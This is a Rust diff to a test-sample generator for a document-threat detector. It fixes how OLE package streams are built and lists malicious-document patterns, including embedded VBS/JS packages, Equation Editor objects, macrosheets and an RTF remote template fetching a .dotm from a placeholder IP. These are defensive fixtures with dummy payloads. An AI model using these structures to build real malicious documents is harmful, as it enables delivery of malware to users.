@@ -78,8 +78,13 @@ fn object(class: &str, data: &[u8]) -> String {
     hex::encode([&b"\x01\x05\0\0\x02\0\0\0"[..], &length(class.len()), &class, &[0; 8], &length(data.len()), data].concat())
 }
 
+/// The stream of a package ([MS-OLEDS] §2.3.6): size, type, label, path, its kind, another path, size of the data, data.
 fn native(name: &str) -> Vec<u8> {
-    text(&format!("\x10\0\0\0\x02\0{name}\0C:\\x\\{name}\0\0\0\x03\0\x01\0\0\0x\0\x01\0\0\0x"))
+    let name = name.replace('·', "");
+    let path = format!("C:\\x\\{name}\0");
+    let length = |bytes: usize| u32::try_from(bytes).unwrap().to_le_bytes();
+    let rest = [b"\x02\0", name.as_bytes(), b"\0", path.as_bytes(), &[0, 0, 3, 0], &length(path.len()), path.as_bytes(), &length(1), b"x"].concat();
+    [&length(rest.len())[..], &rest].concat()
 }
 
 fn basic(code: &str) -> Vec<u8> {
@@ -130,7 +135,7 @@ pub(super) fn samples() -> Vec<Sample> {
             package(&[("[Content_Types].xml", TYPES.as_bytes()), ("xl/workbook.xml", b"<workbook/>"), ("xl/macrosheets/sheet1.xml", &sheet)]),
         ),
         ("RTF.Equation", true, "rtf", rtf("Equ·ation.3", b"x")),
-        ("PackagedProgram", true, "rtf", rtf("Package", &native("invoice.v·bs"))),
+        ("PackagedProgram", true, "rtf", rtf("Package", &native("invoice.v·bs")[4..])),
         ("RTF.UpdatingLink", true, "rtf", link),
         ("RTF.RemoteTemplate", true, "rtf", text("{\\rtf1{\\*\\temp·late http://192.0.2.1/a.dotm}}")),
         ("PackagedProgram", true, "doc", compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &native("invoice.j·s"))])),
